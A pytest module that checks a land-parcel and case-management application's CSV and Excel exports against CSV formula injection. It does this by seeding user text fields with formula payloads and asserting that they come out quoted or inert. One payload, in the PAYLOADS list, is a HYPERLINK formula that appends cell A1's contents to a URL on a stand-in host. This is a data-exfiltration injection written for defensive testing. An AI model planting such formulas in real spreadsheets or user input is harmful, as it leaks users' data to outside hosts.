"""Text typed by users never becomes a formula in an export (CSV injection, OWASP)."""

from __future__ import annotations

import csv
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
import sqlalchemy as sa
from hypothesis import given
from hypothesis import strategies as st

from cases.issues import add_measure
from cases.ledger_io import export_ledger
from cases.models import Inspection, Issue
from cases.status.export_rows import StatusQuery, export_status
from geo.store import Store
from layers.export_spec import ExportOptions
from layers.export_text import FORMULA_STARTS, csv_text
from layers.models import Parcel
from tests.layers.export_seed import AS_OF, Seeded

PAYLOADS = ['=HYPERLINK("http://x.example/?a="&A1,"点我")', "+1+2", "-3+4", "@SUM(1,2)",
            "\t=1+1", "\r=2+2", "=1+1"]


def _poison(store: Store) -> None:
    """Formula-like text in every user text field the exports carry."""
    with store.session() as session:
        for n, parcel in enumerate(session.scalars(sa.select(Parcel).order_by(Parcel.code))):
            parcel.name = PAYLOADS[n % len(PAYLOADS)]
            parcel.village = PAYLOADS[(n + 1) % len(PAYLOADS)]
            parcel.properties = {key: PAYLOADS[(n + 2) % len(PAYLOADS)] if isinstance(value, str)
                                 else value for key, value in parcel.properties.items()}
        for n, inspection in enumerate(session.scalars(sa.select(Inspection))):
            inspection.note = PAYLOADS[n % len(PAYLOADS)]
        issue = session.scalars(sa.select(Issue)).one()
        issue.title, issue.lead_department, issue.finding = PAYLOADS[0], PAYLOADS[3], PAYLOADS[4]
        issue.partner_departments = [PAYLOADS[1]]
        session.flush()
        add_measure(session, ref=issue.ref, text=PAYLOADS[2], owner=PAYLOADS[6], actor="test")


def _xlsx_cells(path: Path) -> list[openpyxl.cell.Cell]:
    book = openpyxl.load_workbook(path)
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def _csv_cells(path: Path) -> list[str]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return [cell for row in csv.reader(handle) for cell in row]


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def _check_csv(paths: list[Path]) -> None:
    cells = [cell for path in paths for cell in _csv_cells(path)]
    risky = [c for c in cells if c.startswith(FORMULA_STARTS) and not _is_number(c)]
    assert risky == []
    quoted = {c for c in cells if c.startswith("'")}
    assert quoted, "the payloads should be in the file"


def _check_xlsx(path: Path) -> None:
    cells = _xlsx_cells(path)
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    texts = {c.value for c in cells if isinstance(c.value, str)}
    assert "=1+1" in texts or PAYLOADS[0] in texts  # kept as typed, as text


@pytest.mark.parametrize("lang", ["zh", "en"])
@pytest.mark.parametrize(("name", "options"), [
    ("s.xlsx", {}), ("s.csv", {}), ("s.csv", {"xy": True}), ("s.csv", {"crs": "EPSG:4547", "xy": True}),
])
def test_status_exports_hold_no_formulas(store: Store, seeded: Seeded, tmp_path: Path,
                                         lang: str, name: str, options: dict) -> None:
    _poison(store)
    out = tmp_path / name
    export_status(store, out, StatusQuery(as_of=AS_OF), ExportOptions(**options), lang=lang)
    if out.suffix == ".xlsx":
        _check_xlsx(out)
    else:
        _check_csv([out])


@pytest.mark.parametrize("lang", ["zh", "en"])
@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
def test_ledger_exports_hold_no_formulas(store: Store, seeded: Seeded, tmp_path: Path,
                                         lang: str, suffix: str) -> None:
    _poison(store)
    out = tmp_path / f"ledger{suffix}"
    with store.session() as session:
        export_ledger(session, out, lang=lang)
    if suffix == ".xlsx":
        _check_xlsx(out)
    else:
        _check_csv([out, tmp_path / "ledger.measures.csv"])


@given(st.lists(st.one_of(st.none(), st.text(max_size=8)), max_size=8))
def test_csv_text_quotes_exactly_what_a_spreadsheet_would_evaluate(values: list[str | None]) -> None:
    safe = csv_text(pd.Series(values, dtype=object)).tolist()
    for before, after in zip(values, safe, strict=True):
        if before is not None and before.startswith(FORMULA_STARTS):
            assert after == "'" + before
        else:
            assert after == before


def test_numbers_stay_numbers() -> None:
    numbers = pd.Series([-1.5, 2.0, None])
    assert csv_text(numbers) is numbers
